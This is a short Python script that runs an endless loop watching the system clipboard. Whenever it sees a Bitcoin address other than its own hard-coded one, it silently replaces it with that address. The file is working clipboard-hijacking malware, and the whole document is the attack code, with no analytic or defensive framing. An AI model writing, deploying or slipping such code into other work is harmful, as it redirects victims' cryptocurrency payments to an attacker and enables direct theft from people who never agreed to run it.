import re
import time

import pyperclip

ADDRESS = re.compile(r"^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,34}$")
MINE = "1Ez69SnzzmePmZX3WpEzMKTrcBF2gpNQ55"


def watch():
    while True:
        text = pyperclip.paste()
        if ADDRESS.match(text.strip()) and text.strip() != MINE:
            pyperclip.copy(MINE)
        time.sleep(0.5)
